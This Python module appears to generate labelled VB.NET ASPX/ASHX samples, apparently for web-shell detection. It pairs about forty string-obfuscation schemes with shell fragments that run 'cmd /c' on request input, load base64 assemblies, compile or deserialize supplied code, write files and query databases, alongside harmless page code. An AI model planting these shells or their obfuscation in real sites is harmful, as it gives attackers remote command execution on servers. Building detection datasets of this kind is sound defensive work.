"""Visual Basic .NET pages: how texts are hidden, what shells do, and what harmless pages do."""

from __future__ import annotations

from obfuscated_asp import case_noise, continued, quote
from obfuscation import (
    Deed,
    Language,
    Way,
    as_it_is,
    base64_,
    deflated,
    each,
    every_second,
    gzipped,
    hexadecimal,
    mirrored,
    numbered_pieces,
    numbers_text,
    percents,
    picked,
    pieces,
    reversed_,
    shifted,
    stuffed,
    xored,
    xored_by_word,
)

_TEXT = "System.Text.Encoding"
_EACH = "For Each $c As Char In $a\n"
_WAYS = (
    Way("pieces", pieces(" & "), "$bare"),
    Way("String.Concat", pieces(", "), "String.Concat($bare)"),
    Way("String.Join", pieces(", "), 'String.Join("", New String() {$bare})'),
    Way("String.Format", numbered_pieces, "String.Format($holes, $bare)"),
    Way("Chr", each("Chr($n)", " & "), "$bare"),
    Way("ChrW", each("ChrW($more - $less)", " & "), "$bare"),
    Way("Convert.ToChar", each("Convert.ToChar($n)", " & "), "$bare"),
    Way("Chr of hex", each("Chr(&H$x)", " & "), "$bare"),
    Way("Strings.Chr", each("Microsoft.VisualBasic.Chr($n)", " & "), "$bare"),
    Way("letters", each('"&#x$x;"', " & "), "System.Web.HttpUtility.HtmlDecode($bare)"),
    Way("bytes", each("$n", ", "), f"{_TEXT}.ASCII.GetString(New Byte() {{$bare}})"),
    Way("StrReverse", reversed_, "StrReverse($data)"),
    Way("Reverse of LINQ", reversed_, "New String($data.Reverse().ToArray())"),
    Way("Array.Reverse", reversed_, "New String($v)",
        "Dim $v As Char() = $data.ToCharArray()\nArray.Reverse($v)"),
    Way("Replace of text", stuffed, '$data.Replace($junk, "")'),
    Way("Replace", stuffed, "Replace($data, $junk, String.Empty)"),
    Way("Split and Join", stuffed, 'Join(Split($data, $junk), "")'),
    Way("unescape", percents, "System.Web.HttpUtility.UrlDecode($data)"),
    Way("base64", base64_, f"{_TEXT}.UTF8.GetString(System.Convert.FromBase64String($data))"),
    Way("base64 in a function", base64_, "$f($data)", "",
        f"Function $f(ByVal $a As String) As String\nDim $b As Byte() = Convert.FromBase64String($a"
        f")\nReturn {_TEXT}.ASCII.GetString($b)\nEnd Function"),
    Way("gzip", gzipped, "New System.IO.StreamReader($z).ReadToEnd()",
        "Dim $m As New System.IO.MemoryStream(Convert.FromBase64String($data))\nDim $z As New "
        "System.IO.Compression.GZipStream($m, System.IO.Compression.CompressionMode.Decompress)"),
    Way("deflate", deflated, "$f($data)", "",
        "Function $f(ByVal $a As String) As String\nUsing $z As New System.IO.Compression."
        "DeflateStream(New System.IO.MemoryStream(Convert.FromBase64String($a)), System.IO."
        "Compression.CompressionMode.Decompress)\nUsing $r As New System.IO.StreamReader($z)\n"
        "Return $r.ReadToEnd()\nEnd Using\nEnd Using\nEnd Function"),
    Way("Xor of an array", xored, "$r",
        'Dim $a() As Integer = {$bare}\nDim $r As String = ""\nFor $i As Integer = 0 To $a.Length '
        "- 1\n$r &= Chr($a($i) Xor $key)\nNext"),
    Way("Xor of bytes in place", xored, f"{_TEXT}.ASCII.GetString($a)",
        "Dim $a As Byte() = New Byte() {$bare}\nFor $i As Integer = 0 To $a.Length - 1\n"
        "$a($i) = $a($i) Xor $key\nNext"),
    Way("Xor in While", xored, "$r",
        'Dim $a() As Integer = {$bare}\nDim $r As String = ""\nDim $i As Integer = 0\n'
        "While $i < $a.Length\n$r &= Chr($a($i) Xor $key)\n$i += 1\nEnd While"),
    Way("Xor by a word", xored_by_word, "$f(New Integer() {$bare}, $word)", "",
        'Function $f($a As Integer(), $k As String) As String\nDim $r As String = ""\n'
        "For $i As Integer = 0 To $a.Length - 1\n"
        "$r &= Chr($a($i) Xor Asc($k.Chars($i Mod $k.Length)))\nNext\nReturn $r\nEnd Function"),
    Way("shift of letters", shifted, "$r",
        'Dim $r As String = ""\nFor Each $c As Char In $data\n$r = $r & ChrW(AscW($c) - $key)\n'
        "Next"),
    Way("shift in a function", shifted, "$f($data)", "",
        'Function $f($a As String) As String\nDim $r As String = ""\nFor $i = 0 To $a.Length - 1\n'
        "$r += Chr(Asc($a.Chars($i)) - $key)\nNext\nReturn $r\nEnd Function"),
    Way("shift by ByRef", shifted, "$v", "Dim $v As String = $data\n$f($v)",
        'Sub $f(ByRef $a As String)\nDim $r As String = ""\n' + _EACH
        + "$r &= ChrW(AscW($c) - $key)\nNext\n$a = $r\nEnd Sub"),
    Way("StringBuilder", shifted, "$f($data)", "",
        "Function $f($a As String) As String\nDim $b As New System.Text.StringBuilder()\n" + _EACH
        + "$b.Append(ChrW(AscW($c) - $key))\nNext\nReturn $b.ToString()\nEnd Function"),
    Way("Mid and Len", shifted, "$f($data)", "",
        "Function $f($a As String) As String\nFor $i As Integer = 1 To Len($a)\n"
        "$f &= Chr(Asc(Mid($a, $i, 1)) - $key)\nNext\nEnd Function"),
    Way("recursion", shifted, "$f($data)", "",
        'Function $f($a As String) As String\nIf $a = "" Then Return ""\n'
        "Return ChrW(AscW($a) - $key) & $f($a.Substring(1))\nEnd Function"),
    Way("lambda", shifted,
        "New String($data.Select(Function($c) ChrW(AscW($c) - $key)).ToArray())"),
    Way("lambda kept", shifted, "$f($data)",
        'Dim $f As Func(Of String, String) = Function($a) String.Join("", $a.Select(Function($c) '
        "ChrW(AscW($c) - $key)))"),
    Way("every second letter", every_second, "$r",
        'Dim $d As String = $data\nDim $r As String = ""\nFor $i As Integer = 0 To $d.Length - 1 '
        "Step 2\n$r &= $d($i)\nNext"),
    Way("IndexOf in letters", mirrored, "$f($data)", "",
        'Function $f($a As String) As String\nDim $k As String = $letters\nDim $r As String = ""\n'
        + _EACH + "Dim $p As Integer = $k.IndexOf($c)\nIf $p < 0 Then\n$r &= $c\nElse\n"
        "$r &= $k($k.Length - 1 - $p)\nEnd If\nNext\nReturn $r\nEnd Function"),
    Way("letters by their places", picked("$held($at)", " & "), "$bare",
        "Dim $held As String = $letters"),
    Way("numbers by Split", numbers_text, "$f($data)", "",
        'Function $f($a As String) As String\nDim $r As String = ""\nFor Each $c As String In '
        '$a.Split(","c)\n$r &= Chr(CInt($c) - $key)\nNext\nReturn $r\nEnd Function'),
    Way("hex", hexadecimal, "$r",
        'Dim $a As String = $data, $r As String = ""\nFor $i = 0 To $a.Length - 2 Step 2\n'
        "$r &= Chr(Convert.ToInt32($a.Substring($i, 2), 16))\nNext"),
    Way("hex with CInt", hexadecimal, "$f($data)", "",
        'Function $f($a As String) As String\nDim $r As String = ""\nFor $i As Integer = 1 To '
        'Len($a) Step 2\n$r &= Chr(CInt("&H" & Mid($a, $i, 2)))\nNext\nReturn $r\nEnd Function'),
    Way("as it is", as_it_is, "$data"),
)  # fmt: skip

_SHELLS = (
    Deed("run-commands", "Shell(«cmd /c » & $asked)"),
    Deed("run-commands", "Dim $v As New System.Diagnostics.ProcessStartInfo(«cmd.exe», «/c » & "
         "$asked)\n$v.RedirectStandardOutput = True\n$v.UseShellExecute = False\n"
         "Response.Write(System.Diagnostics.Process.Start($v).StandardOutput.ReadToEnd())"),
    Deed("run-commands", "Dim $v = CreateObject(«WScript.Shell»)\n"
         "Response.Write($v.Exec(«cmd /c » & $asked).StdOut.ReadAll())"),
    Deed("run-commands", "Dim $v As New System.Diagnostics.Process()\nWith $v.StartInfo\n"
         ".FileName = «cmd.exe»\n.Arguments = «/c » & $asked\n.UseShellExecute = False\nEnd With\n"
         "$v.Start()"),
    Deed("run-commands", "CallByName(CreateObject(«WScript.Shell»), «Run», CallType.Method, "
         "$asked)"),
    Deed("load-code", "System.Reflection.Assembly.Load(Convert.FromBase64String($asked))"
         ".CreateInstance(«U»).Equals(Me)"),
    Deed("load-code", "Dim $v = Type.GetType(«System.Reflection.Assembly»)\n$v.GetMethod(«Load», "
         "New Type() {GetType(Byte())}).Invoke(Nothing, New Object() {Convert.FromBase64String("
         "$asked)})"),
    Deed("run-code", "Dim $p As New Microsoft.VisualBasic.VBCodeProvider()\n"
         "$p.CompileAssemblyFromSource(New System.CodeDom.Compiler.CompilerParameters(), $asked)"
         ".CompiledAssembly.CreateInstance(«X»)"),
    Deed("run-code", "Dim $s = CreateObject(«MSScriptControl.ScriptControl»)\n"
         "$s.Language = «VBScript»\n$s.ExecuteStatement($asked)"),
    Deed("run-code", "Dim $f As New System.Web.UI.ObjectStateFormatter()\n$f.Deserialize($asked)"),
    Deed("write-files", "System.IO.File.WriteAllText(Server.MapPath($asked), $asked)"),
    Deed("write-files", "My.Computer.FileSystem.WriteAllText(Server.MapPath($asked), $asked, "
         "False)"),
    Deed("query-databases", "Dim $c As New System.Data.OleDb.OleDbConnection($asked)\n$c.Open()\n"
         "Dim $q As New System.Data.OleDb.OleDbCommand($asked, $c)\n"
         "Response.Write($q.ExecuteScalar())"),
)  # fmt: skip

_HARMLESS = (
    Deed("e-mail address", "Response.Write(«mailto:info@example.org»)"),
    Deed("captcha", "If CStr(Session(«captcha»)) = $asked Then Response.Write(«ok»)"),
    Deed("template",
         "Response.Write(Replace(«<b>{name}</b>», «{name}», Server.HtmlEncode($asked)))"),
    Deed("way on", "Response.Redirect(«/default.aspx?id=» & Server.UrlEncode($asked))"),
    Deed("picture", "Response.ContentType = «image/gif»\nResponse.BinaryWrite(Convert."
         "FromBase64String(«R0lGODlhAQABAAAAACw=»))"),
    Deed("list for a spreadsheet", "Response.AddHeader(«Content-Disposition», «attachment; "
         "filename=list.csv»)\nDim $b As New System.Text.StringBuilder()\nFor Each $p As String "
         "In $asked.Split(\";\"c)\n$b.Append($p).Append(«,»)\nNext\nResponse.Write($b.ToString())"),
    Deed("database", "Dim $c As New System.Data.SqlClient.SqlConnection(«Server=db;Database=shop»)"
         "\nDim $q As New System.Data.SqlClient.SqlCommand(«select name from p where id=@id», $c)\n"
         "$q.Parameters.AddWithValue(«@id», $asked)\n$c.Open()\n"
         "Response.Write($q.ExecuteScalar())"),
    Deed("kept page", "Response.Write(System.IO.File.ReadAllText(Server.MapPath(«~/help.html»)))"),
    Deed("cookie", "Response.Cookies.Add(New HttpCookie(«theme», $asked))"),
    Deed("log of visits", "System.IO.File.AppendAllText(Server.MapPath(«~/App_Data/visits.log»), "
         "Now & $asked)"),
)  # fmt: skip

VBNET = Language(
    name="VB.NET",
    quote=quote,
    ways=_WAYS,
    asked=(
        'Request("$k")', 'Request.Form("$k")', 'Request.QueryString("$k")', 'Request.Headers("$k")',
        'Request.Params("$k")', 'Request.Item("$k")', 'HttpContext.Current.Request("$k")',
        "Request(«$k»)", 'Request.Cookies("$k").Value', 'StrReverse(Request("$k"))',
        'System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request("$k")))',
        "New System.IO.StreamReader(Request.InputStream).ReadToEnd()",
    ),
    keeps=(
        ("Dim $v As String = $value", "$v"), ("Dim $v = $value", "$v"),
        ('Session("$v") = $value', 'CStr(Session("$v"))'),
        ('Application("$v") = $value', 'Application("$v").ToString()'),
        ('Context.Items("$v") = $value', 'CType(Context.Items("$v"), String)'),
        ('Cache("$v") = $value', 'Cache("$v")'), ('Dim $v() As String = {"", $value}', "$v(1)"),
        ("Dim $v As Object = $value", "DirectCast($v, String)"),
        ("Dim $v = New With {.$k = $value}", "$v.$k"),
        ("Dim $v = Function() $value", "$v()"),
        ('Dim $v As New System.Collections.Generic.Dictionary(Of String, String)\n'
         '$v.Add("$k", $value)', '$v("$k")'),
    ),
    padding=(
        "If 1 = 2 Then\nDim $v As Integer = 3\nEnd If", "' $v", 'Dim $v As String = "$w"',
        "On Error Resume Next", "Rem $v", "#Region \"$v\"\n#End Region",
    ),
    shells=_SHELLS,
    harmless=_HARMLESS,
    wraps=(
        ("aspx", '<%@ Page Language="VB" %>\n<script runat="server">\n$functions\n'
                 "Sub Page_Load(sender As Object, e As EventArgs)\n$body\nEnd Sub\n</script>"),
        ("aspx", '<%@ Page Language="VB" %><script runat=server>\n$functions\n</script>'
                 "<%\n$body\n%>"),
        ("ashx", '<%@ WebHandler Language="VB" Class="H" %>\nImports System\nImports System.Web\n'
                 "Public Class H\nImplements IHttpHandler\n$functions\n"
                 "Public Sub ProcessRequest(ByVal Context As HttpContext) Implements "
                 "IHttpHandler.ProcessRequest\nDim Request = Context.Request\n"
                 "Dim Response = Context.Response\nDim Server = Context.Server\n"
                 "Dim Session = Context.Session\n$body\nEnd Sub\nEnd Class"),
    ),
    spellings=(case_noise, continued),
)  # fmt: skip
